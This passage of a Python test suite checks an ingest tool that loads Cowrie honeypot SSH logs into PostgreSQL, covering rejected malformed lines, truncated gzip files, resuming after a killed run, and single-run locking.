# 5. Bad input: recorded, reported, and the rest loads
# ------------------------------------------------------------------------------------------------

GOOD_SID = "b0b1b2b3b4b5"
BAD_LINES: list[tuple[bytes, str | None]] = [  # (line, reason it is rejected for)
    (cowrie_line("cowrie.session.connect", GOOD_SID, "80.94.95.181", "2026-11-01T12:00:00Z", src_port=51515,
                 dst_ip="172.31.12.7", dst_port=2222, protocol="ssh"), None),
    # Cowrie killed mid-write, then restarted: the rest of the line is lost.
    (b'{"eventid":"cowrie.login.failed","username":"root","password":"12\n', "malformed_json"),
    (b"\n", None),  # blank: skipped, but still a line
    (cowrie_line("cowrie.login.failed", None, "80.94.95.181", "2026-11-01T12:00:01Z",  # type: ignore[arg-type]  # no session, on purpose
                 username="root", password="x"), "missing_session"),
    (cowrie_line("cowrie.login.failed", GOOD_SID, "", "2026-11-01T12:00:02Z", username="root", password="y"),
     "missing_src_ip"),
    (cowrie_line("cowrie.login.failed", GOOD_SID, "80.94.95.999", "2026-11-01T12:00:03Z",
                 username="root", password="z"), "invalid_ip"),
    (b'{"eventid":"cowrie.login.failed","username":"root","password":"\xff\xfeadmin","message":"",'
     b'"sensor":"hp-fra1","timestamp":"2026-11-01T12:00:04Z","src_ip":"80.94.95.181","session":"b0b1b2b3b4b5"}\n',
     "invalid_utf8"),
    (b'{"eventid":"cowrie.command.input","input":"echo \x00","message":"","sensor":"hp-fra1",'
     b'"timestamp":"2026-11-01T12:00:05Z","src_ip":"80.94.95.181","session":"b0b1b2b3b4b5"}\n', "nul_character"),
    (cowrie_line("cowrie.login.failed", GOOD_SID, "80.94.95.181", "2026-11-01T12:00:06Z",
                 username="root\x00", password="q"), "nul_character"),  # json.dumps writes \u0000
    (cowrie_line(None, GOOD_SID, "80.94.95.181", "2026-11-01T12:00:07Z"), "missing_eventid"),  # type: ignore[arg-type]  # no eventid, on purpose
    (cowrie_line("cowrie.login.failed", GOOD_SID, "80.94.95.181", "yesterday at noon",
                 username="root", password="w"), "invalid_timestamp"),
    (cowrie_line("cowrie.login.failed", GOOD_SID, "80.94.95.181", "2026-11-01T12:00:08Z",
                 username="\ud800", password="v"), "invalid_utf8"),  # json.dumps writes \ud800
    (cowrie_line("cowrie.login.failed", GOOD_SID, "80.94.95.181", "2026-11-01T12:00:09Z",
                 username="admin", password="admin"), None),
    (cowrie_line("cowrie.session.closed", GOOD_SID, "80.94.95.181", "2026-11-01T12:00:10Z", duration=10.0), None),
    # Well-formed, but a sensor clock reset to year 1: stored as a reject, not as a session in 0001.
    (cowrie_line("cowrie.login.failed", GOOD_SID, "80.94.95.181", "0001-01-01T00:00:00Z",
                 username="root", password="u"), "implausible_timestamp"),
]


def gz_lines(count: int) -> list[bytes]:
    """Distinct sessions, one line each: they do not compress to nothing."""
    return [cowrie_line("cowrie.session.connect", f"{0xa00000000000 + i * 7919:012x}", f"218.92.{i // 250}.{i % 250 + 1}",
                        f"2026-10-31T{i // 60:02d}:{i % 60:02d}:{i * 7 % 60:02d}.{i:06d}Z", src_port=30000 + i * 13,
                        dst_ip="172.31.12.7", dst_port=2222, protocol="ssh")
            for i in range(count)]


def test_bad_lines_are_recorded_and_the_rest_loads(db: str, tmp_path: Path, cli_database: Callable[[str], None],
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    cli_database(db)
    logs = tmp_path / "logs"
    logs.mkdir()
    plain = logs / "cowrie.json"
    plain.write_bytes(b"".join(line for line, _ in BAD_LINES))
    # Cut off in the middle of the deflate stream (logrotate still compressing, or a full disk).
    lines_gz = gz_lines(40)
    whole_gz = gzip.compress(b"".join(lines_gz), mtime=0)
    truncated_gz = whole_gz[: len(whole_gz) // 2]
    readable = zlib.decompressobj(wbits=31).decompress(truncated_gz)
    before_break = readable.count(b"\n")
    assert 0 < before_break < len(lines_gz)
    rotated = logs / "cowrie.json.2026-10-31.gz"
    rotated.write_bytes(truncated_gz)
    path, gz_path = str(plain.resolve()), str(rotated.resolve())

    assert cli.main(["ingest", str(logs)]) == 1

    expected = [(gz_path, before_break + 1, "truncated_gzip")] + [
        (path, n, reason) for n, (_, reason) in enumerate(BAD_LINES, start=1) if reason]
    assert sorted(rejects(db)) == sorted(expected)
    assert {reason for _, _, reason in expected} == set(cowrie.REJECT_REASONS)
    details = {(r["line_no"], r["reason"]): r for r in query(db, "SELECT * FROM ipintel.ingest_rejects")}
    assert "'80.94.95.999'" in details[(6, "invalid_ip")]["detail"]
    assert "0xff" in details[(7, "invalid_utf8")]["detail"]
    assert "echo \\x00" in details[(8, "nul_character")]["excerpt"]
    assert "Compressed file ended" in details[(before_break + 1, "truncated_gzip")]["detail"]

    # The good lines around the bad ones loaded; the gzip up to its break too.
    good = sessions(db)[GOOD_SID]
    assert (good["event_count"], good["login_attempts"], good["duration_seconds"]) == (3, 1, 10.0)
    assert totals(db)["sessions"] == 1 + before_break
    (run,) = runs(db)
    assert (run["status"], run["rejects"], run["lines_read"]) == (
        "finished_with_rejects", len(expected), len(BAD_LINES) + before_break)

    err = no_newlines(capsys.readouterr().err)
    # Files in order (rotated before live), the first five rejects with file:line.
    for file, line_no, reason in expected[: ingest.REJECTS_SHOWN]:
        assert f"rejected: {file}:{line_no}: {reason}" in err
    assert f"{path}:{expected[ingest.REJECTS_SHOWN][1]}:" not in err
    assert f"... {len(expected) - ingest.REJECTS_SHOWN} more in ipintel.ingest_rejects (run_id = 1)" in err

    # Still truncated: the same break is reported again, in place of the first record.
    assert cli.main(["ingest", str(logs)]) == 1
    assert sorted(rejects(db)) == sorted(expected)
    assert totals(db)["sessions"] == 1 + before_break
    capsys.readouterr()

    # logrotate finished: the rest of the gzip loads, the live file is skipped, a clean run exits 0.
    rotated.write_bytes(whole_gz)
    assert cli.main(["ingest", str(logs)]) == 0
    assert "rejected:" not in capsys.readouterr().err
    assert totals(db)["sessions"] == 1 + len(lines_gz)
    assert [r for r in rejects(db) if r[2] == "truncated_gzip"] == []  # those lines are loaded now
    assert runs(db)[-1]["status"] == "succeeded"


def test_empty_gzip_is_counted_and_does_not_hide_other_files(db: str, tmp_path: Path) -> None:
    """A quiet day rotates to a gzip of nothing; it has no content to be recognised by, so every
    run counts it as empty (not read, not skipped)."""
    folder = tmp_path / "hp-syd1"
    folder.mkdir()
    (folder / "cowrie.json.2026-11-01.gz").write_bytes(gzip.compress(b"", mtime=0))
    (folder / "cowrie.json").write_text("\n".join(LOG_LINES) + "\n", encoding="ascii")

    summary = ingest.ingest(db, [str(folder)])
    assert counts(summary) == (1, 0, 0, 1, len(LOG_LINES), len(LOG_LINES))
    assert totals(db)["sessions"] == 4
    again = ingest.ingest(db, [str(folder)])
    assert counts(again) == (0, 1, 0, 1, 0, 0)


# ------------------------------------------------------------------------------------------------
# 6. A generated fleet: every session fact
# ------------------------------------------------------------------------------------------------


def test_generated_logs_match_every_expected_session_fact(db: str, tmp_path: Path) -> None:
    generated = cowrie_oracle.generate(tmp_path / "logs", seed=7, sessions=400, days=3)
    assert generated.eventid_counts.get("cowrie.direct-tcpip.request", 0) > 0  # the 127.0.0.1 quirk is in
    assert sum(f["first_ts"].date() != f["last_ts"].date() for f in generated.expected.values()) > 0

    # Small chunks: sessions are also split across transactions, not only across files.
    summary = ingest.ingest(db, [str(tmp_path / "logs")], chunk_lines=500)
    assert (summary.events, summary.rejects, summary.sessions_new) == (generated.events, 0, generated.sessions)
    assert dict(summary.event_counts) == generated.eventid_counts

    rows = sessions(db)
    assert len(rows) == generated.sessions
    actual = {sid: {"src_ip": str(r["source_ip"]), "sensor": r["sensor"], "protocol": r["protocol"],
                    "first_ts": r["first_event_at"], "last_ts": r["last_event_at"], "event_count": r["event_count"],
                    "login_attempts": r["login_attempts"], "login_successes": r["login_successes"],
                    "command_count": r["command_count"], "download_count": r["download_count"],
                    "duration": r["duration_seconds"], "client_version": r["client_version"], "hassh": r["hassh"]}
              for sid, r in rows.items()}
    assert actual == generated.expected

    ips = ip_rows(db)
    per_ip = Counter(f["src_ip"] for f in generated.expected.values())
    assert {str(k): v["session_count"] for k, v in ips.items()} == dict(per_ip)
    assert sum(v["session_count"] for v in ips.values()) == generated.sessions
    assert len(ips) == generated.distinct_ips
    for address, row in ips.items():
        mine = [f for f in generated.expected.values() if f["src_ip"] == str(address)]
        assert (row["first_seen"], row["last_seen"]) == (min(f["first_ts"] for f in mine),
                                                         max(f["last_ts"] for f in mine))
    assert ip("127.0.0.1") not in ips  # direct-tcpip's claimed origin is not an attacker
    assert not any(str(a).startswith("::ffff:") for a in ips)


# ------------------------------------------------------------------------------------------------
# 7. Killed mid-run: nothing half-done, the next run completes it
# ------------------------------------------------------------------------------------------------


@pytest.fixture
def second_db(pg_server: Any, migrated_template: str) -> Iterator[str]:
    """Another fresh migrated database in the same test (for a clean reference run)."""
    name = f"ipintel_test_{uuid.uuid4().hex[:10]}"
    with pg_server.janitor(name, template=migrated_template):
        yield pg_server.dsn(name)


def wait_for_no_loader(dsn: str, timeout: float = 15.0) -> None:
    """Until the killed loader's backends have noticed and ended (its lock goes with them)."""
    deadline = time.monotonic() + timeout
    while query(dsn, "SELECT pid FROM pg_stat_activity WHERE application_name = 'ipintel' "
                     "AND datname = current_database()"):
        assert time.monotonic() < deadline, "the killed loader's backends did not end"
        time.sleep(0.05)


def test_killed_ingest_resumes_to_the_same_totals(db: str, second_db: str, tmp_path: Path) -> None:
    big = tmp_path / "cowrie.json"
    large = cowrie_large.generate_large(big, 30 << 20, seed=5)
    content = big.read_bytes()

    out = (tmp_path / "ingest.out").open("wb")
    proc = subprocess.Popen(
        [sys.executable, "-m", "ipintel.cli", "ingest", str(big), "--chunk-lines", "2000"],
        env={**os.environ, "DATABASE_URL": db}, cwd=tmp_path, stdout=out, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 60
        offset = 0
        while offset < len(content) // 5:
            assert proc.poll() is None, "ingest ended before it could be killed: make the file bigger"
            assert time.monotonic() < deadline
            time.sleep(0.02)
            rows = query(db, "SELECT bytes_ingested FROM ipintel.ingest_files")
            offset = rows[0]["bytes_ingested"] if rows else 0
        # A second ingest meanwhile is refused: one run at a time per database.
        with pytest.raises(LockHeld):
            ingest.ingest(db, [str(big)])
        proc.send_signal(signal.SIGKILL)
        proc.wait(10)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        out.close()
    wait_for_no_loader(db)

    # What is committed is whole chunks: the offset and the tiers agree, staging holds nothing.
    (state,) = query(db, """
        SELECT f.bytes_ingested, f.lines_ingested,
               (SELECT sum(event_count) FROM ipintel.session_summaries) AS events,
               (SELECT count(*) FROM ipintel.session_summaries) AS sessions,
               (SELECT sum(session_count) FROM ipintel.ip_inventory) AS ip_session_count,
               (SELECT count(*) FROM ipintel_staging.cowrie_events) AS staged
        FROM ipintel.ingest_files f""")
    done = content[: state["bytes_ingested"]]
    assert 0 < state["bytes_ingested"] < len(content) and done.endswith(b"\n")
    assert state["lines_ingested"] == done.count(b"\n") == state["events"]
    # whole chunks only: the run's first ramp up (200, 600 and 1,800 lines: ingest.RAMP_START), then 2,000 each
    ramp = [200, 800, 2600]
    assert state["lines_ingested"] in ramp or (state["lines_ingested"] - ramp[-1]) % 2000 == 0, state
    assert state["sessions"] == state["ip_session_count"] == len(set(re.findall(rb'"session":"(\w+)"', done)))
    assert state["staged"] == 0
    assert [r["status"] for r in runs(db)] == ["running"]  # killed: nobody could mark it

    resumed = ingest.ingest(db, [str(big)], chunk_lines=2000)
    assert resumed.events == large.events - state["events"]
    assert [r["status"] for r in runs(db)] == ["interrupted", "succeeded"]

    clean = ingest.ingest(second_db, [str(big)], chunk_lines=2000)
    assert clean.events == large.events
    assert totals(db) == totals(second_db)
    assert totals(db)["sessions"] == large.sessions and totals(db)["events"] == large.events
    assert totals(db)["ip_session_count"] == large.sessions


# ------------------------------------------------------------------------------------------------
# 8. One ingest at a time
# ------------------------------------------------------------------------------------------------


def test_second_ingest_exits_3_while_one_holds_the_lock(db: str, tmp_path: Path, cli_database: Callable[[str], None],
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    cli_database(db)
    log = tmp_path / "cowrie.json"
    log.write_text("\n".join(LOG_LINES) + "\n", encoding="ascii")

    with Lock(db, ingest.INGEST_LOCK):
        assert cli.main(["ingest", str(log)]) == cli.EXIT_LOCKED == 3
        assert "another ingest is running" in no_newlines(capsys.readouterr().err)
        assert runs(db) == [] and totals(db)["sessions"] == 0  # refused before doing anything

    assert cli.main(["ingest", str(log)]) == 0
    assert totals(db)["sessions"] == 4
